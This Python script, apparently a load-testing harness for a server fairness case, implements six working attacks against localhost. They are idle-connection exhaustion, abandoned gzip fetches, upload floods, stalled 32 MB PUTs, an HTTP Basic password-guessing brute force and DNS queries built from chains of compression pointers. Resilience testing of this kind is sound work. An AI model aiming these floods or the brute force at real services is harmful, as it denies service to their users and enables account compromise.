"""The attacks of the case `fair`, each until it is ended: attack.py KIND PORT PATH.

  idle      holds 2,000 connections that ask nothing, from one address, and replaces those that end
  gzip      fetches a large file, compressed on the fly, over and over, and leaves after the first bytes
  uploads   stores 12 files at a time by PUT
  announce  begins 64 PUTs of 32 MB each, of which one byte comes
  guess     sends wrong passwords by HTTP Basic, over 80 connections
  pointers  sends DNS queries by TCP, over 8 connections, with thousands of records whose names are long
            chains of compression pointers

It prints "ready" when the attack is at its full strength. Every client comes from 127.0.0.2, and gives
way to the client that is measured (nice).
"""
import asyncio
import base64
import os
import resource
import struct
import sys

SOURCE = ("127.0.0.2", 0)
IDLE = 2000
LEAVERS = 8
UPLOADS = 12
ANNOUNCED = 64
ANNOUNCED_SIZE = 32 << 20
GUESSERS = 80
ASKERS = 8
POINTER_OFFSET_MAX = 0x3FFF


async def connect(port):
    return await asyncio.open_connection("127.0.0.1", port, local_addr=SOURCE)


async def for_ever(port, once):
    """Again and again over new connections, also while the server refuses them."""
    while True:
        writer = None
        try:
            reader, writer = await connect(port)
            await once(reader, writer)
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            await asyncio.sleep(0.01)
        finally:
            if writer:
                writer.transport.abort()


async def read_reply(reader):
    """Reads a reply that has a Content-Length."""
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    if b"content-length:" in head:
        await reader.readexactly(int(head.split(b"content-length:")[1].split(b"\r\n")[0]))


def idle(port, _):
    async def once(reader, _):
        await reader.read(1)

    return [for_ever(port, once) for _ in range(IDLE)]


def gzip(port, path):
    request = f"GET {path} HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n".encode()

    async def once(reader, writer):
        writer.write(request)
        await reader.readexactly(1000)

    return [for_ever(port, once) for _ in range(LEAVERS)]


def uploads(port, path):
    async def once(reader, writer, name):
        while True:
            writer.write(f"PUT {path}{name} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n".encode()
                         + bytes(1000))
            await read_reply(reader)

    return [for_ever(port, lambda reader, writer, name=name: once(reader, writer, name))
            for name in range(UPLOADS)]


def announce(port, path):
    async def once(reader, writer, name):
        writer.write(f"PUT {path}{name} HTTP/1.1\r\nHost: a\r\n"
                     f"Content-Length: {ANNOUNCED_SIZE}\r\n\r\n".encode() + b"x")
        await reader.read(1)

    return [for_ever(port, lambda reader, writer, name=name: once(reader, writer, name))
            for name in range(ANNOUNCED)]


def guess(port, path):
    async def once(reader, writer, name):
        for number in range(1 << 30):
            word = base64.b64encode(f"alice:{name}-{number}".encode()).decode()
            writer.write(f"GET {path} HTTP/1.1\r\nHost: a\r\nAuthorization: Basic {word}\r\n\r\n".encode())
            await read_reply(reader)

    return [for_ever(port, lambda reader, writer, name=name: once(reader, writer, name))
            for name in range(GUESSERS)]


def pointer_query():
    """A message of the largest size, in which each name takes some 8,000 pointers."""
    question = b"\x05bench\x07example\x00" + struct.pack("!HH", 1, 1)
    start = 12 + len(question) + 11  # of the data of the first record
    count = (POINTER_OFFSET_MAX - start) // 2
    chain = b"".join(struct.pack("!H", 0xC000 | (12 if i == 0 else start + 2 * (i - 1)))
                     for i in range(count))
    records = b"\x00" + struct.pack("!HHIH", 65280, 1, 0, len(chain)) + chain
    last = struct.pack("!H", 0xC000 | (start + 2 * (count - 1)))
    record = last + struct.pack("!HHIH", 1, 1, 0, 0)
    more = (65535 - 12 - len(question) - len(records)) // len(record)
    head = struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 1 + more)
    return head + question + records + record * more


def pointers(port, _):
    query = pointer_query()
    message = struct.pack("!H", len(query)) + query

    async def once(reader, writer):
        while True:
            writer.write(message)
            await reader.readexactly(int.from_bytes(await reader.readexactly(2), "big"))

    return [for_ever(port, once) for _ in range(ASKERS)]


async def attack(kind, port, path):
    tasks = [asyncio.ensure_future(each)
             for each in {"idle": idle, "gzip": gzip, "uploads": uploads, "announce": announce,
                          "guess": guess, "pointers": pointers}[kind](port, path)]
    await asyncio.sleep(1)
    print("ready", flush=True)
    await asyncio.gather(*tasks)


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(10)
    asyncio.run(attack(sys.argv[1], int(sys.argv[2]), sys.argv[3]))


if __name__ == "__main__":
    main()
